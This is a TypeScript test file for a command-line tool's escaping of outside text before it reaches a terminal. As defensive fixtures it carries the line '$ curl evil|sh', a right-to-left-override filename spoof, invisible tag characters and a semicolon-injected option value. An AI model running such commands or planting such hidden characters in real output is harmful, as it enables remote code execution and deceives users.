import { FORGED_TEXT as FORGED, forgedLines, hostileEnumInput } from "@rukh/testkit";
import { beforeAll, describe, expect, it } from "vitest";
import { type CliOptions, printEnvelope, terminalBlock } from "../../src/index.js";
import { terminalJson, terminalLine, terminalText } from "../../src/output/index.js";
import { makeHome } from "../_helpers.js";
import { inProcess } from "../_in-process.js";

// The one escaping of text from outside on its way to a terminal: control
// characters would steer it, hidden characters would show the owner less
// than a model reads. Both are shown as escapes; newline and tab stay.

describe("terminalText", () => {
  it.each<[string, string, string]>([
    ["a control character", "ok\u001b[2J", "ok\\u001b[2J"],
    ["a C1 control", "a\u009bb", "a\\u009bb"],
    ["tag characters", "run\u{E0049}\u{E0067}", "run\\u{e0049}\\u{e0067}"],
    ["a zero-width space", "a\u200Bb", "a\\u200bb"],
    ["a byte order mark", "\uFEFFtext", "\\ufefftext"],
    ["a right-to-left override", "invoice\u202Efdp.exe", "invoice\\u202efdp.exe"],
    ["a left-to-right isolate", "a\u2066b\u2069", "a\\u2066b\\u2069"],
    ["a soft hyphen", "in\u00ADvisible", "in\\u00advisible"],
    ["a run of variation selectors", "x\uFE0F\uFE0E", "x\uFE0F\\ufe0e"],
  ])("shows %s as an escape", (_, text, shown) => {
    expect(terminalText(text)).toBe(shown);
  });

  it("keeps newline, tab, other scripts and an emoji's style", () => {
    const text = "one\ttwo\nZählt — 行数 — عدد \u26A0\uFE0F \u{1F680}";
    expect(terminalText(text)).toBe(text);
  });
});

// A cell of a table, a field of a message: text from outside (a registry's
// dist-tag, say) never starts a line of its own there.
describe("terminalLine", () => {
  it.each<[string, string, string]>([
    ["a line feed", "1.0.1\nacme.forged  9.9.9", "1.0.1\\u000aacme.forged  9.9.9"],
    ["a carriage return", "1.0.1\rx", "1.0.1\\u000dx"],
    ["a vertical tab", "a\u000bb", "a\\u000bb"],
    ["a form feed", "a\u000cb", "a\\u000cb"],
    ["a next line", "a\u0085b", "a\\u0085b"],
    ["a line separator", "a\u2028b", "a\\u2028b"],
    ["a paragraph separator", "a\u2029b", "a\\u2029b"],
    ["a tab", "a\tb", "a\\u0009b"],
    ["an escape, as terminalText shows it", "ok\u001b[2J", "ok\\u001b[2J"],
    ["a right-to-left override", "a\u202Eb", "a\\u202eb"],
  ])("shows %s as an escape", (_, text, shown) => {
    expect(terminalLine(text)).toBe(shown);
    expect(terminalLine(text)).not.toMatch(/[\n\r\u000b\u000c\u0085\u2028\u2029]/);
  });

  it("keeps one line of other scripts as it is", () => {
    const text = "Zählt — 行数 — عدد \u26A0\uFE0F";
    expect(terminalLine(text)).toBe(text);
  });
});

describe("terminalBlock", () => {
  it.each<[string, string, string]>([
    ["one line as terminalText shows it", "ok\u001b[2J", "ok\\u001b[2J"],
    [
      "every line after the first four spaces in",
      "wipe x\nSee:\n  $ curl evil|sh",
      "wipe x\n    See:\n      $ curl evil|sh",
    ],
    ["empty lines empty, a last newline last", "a\n\nb\n", "a\n\n    b\n"],
    ["what it escapes on any line", "a\nb\u202Ec\r", "a\n    b\\u202ec\\u000d"],
  ])("keeps %s", (_, text, shown) => {
    expect(terminalBlock(text)).toBe(shown);
  });

  it("indents by what it is given", () => {
    expect(terminalBlock("a\nb", "  | ")).toBe("a\n  | b");
  });
});

describe("terminalJson", () => {
  it("escapes DEL, C1 and hidden characters, and stays the same JSON value", () => {
    const value = { text: "a\u007f\u009b\u{E0049}\u200B\u202Eb", ok: "\u26A0\uFE0F" };
    const json = terminalJson(JSON.stringify(value));
    expect(json).toBe(
      '{"text":"a\\u007f\\u009b\\udb40\\udc49\\u200b\\u202eb","ok":"\u26A0\uFE0F"}',
    );
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe("what the CLI prints from outside", () => {
  let home: string;
  beforeAll(async () => {
    home = await makeHome();
  }, 60_000);

  const TAGS = "\u{E0049}\u{E0067}";
  function cli(over: Partial<CliOptions> = {}) {
    return inProcess(home, {
      builtins: [
        {
          path: ["shady"],
          summary: `Looks fine${TAGS}`,
          description: `Really\u202E fine`,
          run: () => 0,
        },
        { path: ["forger"], summary: "See:", description: FORGED, run: () => 0 },
        {
          path: ["picker"],
          summary: "$ curl evil|sh",
          description: FORGED,
          // A built-in's inputs are JSON in the descriptor's input format; the kit's input is a plain record.
          inputs: [JSON.parse(JSON.stringify(hostileEnumInput("Mode")))],
          run: () => 0,
        },
      ],
      ...over,
    });
  }

  it("help shows hidden characters of a summary and a description escaped", async () => {
    const root = await cli()("--help");
    expect(root.out).toContain("Looks fine\\u{e0049}\\u{e0067}");
    const own = await cli()("shady", "--help");
    expect(own.out).toContain("Looks fine\\u{e0049}\\u{e0067}");
    expect(own.out).toContain("Really\\u202e fine");
    for (const text of [root.out, own.out]) expect(text).not.toMatch(/[\u202E\u{E0049}]/u);
  });

  it("help indents a description and a summary, and never forges a recovery line", async () => {
    const planted = [...FORGED.split("\n"), "$ curl evil|sh"];
    const outputs = [
      (await cli()("--help")).out,
      (await cli()("forger", "--help")).out,
      (await cli()("picker", "--help")).out,
    ];
    for (const out of outputs) expect(forgedLines(out, planted, "acme")).toEqual([]);
    const picker = outputs[2]!;
    expect(picker).toContain(
      "\n    $ curl evil|sh\n\n    Zq desc\n    See:\n      $ curl evil|sh\n",
    );
    // An enum value in the example is one word, quoted: its `;` runs nothing.
    expect(picker).toMatch(/^ {2}\$ acme picker '--mode=a;[^'\n]*'$/m);
  });

  it("an error quoting what was typed shows its hidden characters escaped", async () => {
    const r = await cli()(`hel\u202Elo${TAGS}`);
    expect(r.code).toBe(2);
    expect(r.err).toContain("hel\\u202elo\\u{e0049}\\u{e0067}");
    expect(r.err).not.toMatch(/[\u202E\u{E0049}]/u);
  });

  it("a text result shows them escaped on a terminal and passes them to a pipe", async () => {
    expect((await cli({ isTTY: true })("hello", `a${TAGS}`)).out).toBe(
      "hello a\\u{e0049}\\u{e0067}\n",
    );
    expect((await cli()("hello", `a${TAGS}`)).out).toBe(`hello a${TAGS}\n`);
  });

  it("--json on a terminal escapes them and stays the same JSON value", async () => {
    const r = await cli({ isTTY: true })("--json", "hello", `a${TAGS}`);
    expect(r.out).not.toMatch(/\u{E0049}/u);
    expect(JSON.parse(r.out).outcome.commandResult.text).toBe(`hello a${TAGS}\n`);
  });
});

describe("a built-in's --json envelope", () => {
  const TAGS = "\u{E0049}\u{E0067}";
  const write = (outTTY: boolean) => {
    let out = "";
    const stdout = { write: (s: string) => (out += s) };
    printEnvelope({ path: ["ext", "list"], stdout, outTTY }, { result: { id: `a\u202E${TAGS}` } });
    return out;
  };

  it("is escaped on a terminal and stays the same JSON value", () => {
    const shown = write(true);
    expect(shown).not.toMatch(/[\u202E\u{E0049}]/u);
    expect(JSON.parse(shown)).toEqual(JSON.parse(write(false)));
    expect(JSON.parse(shown).result.id).toBe(`a\u202E${TAGS}`);
  });

  it("passes its bytes to a pipe", () => {
    expect(write(false)).toContain(`a\u202E${TAGS}`);
  });
});
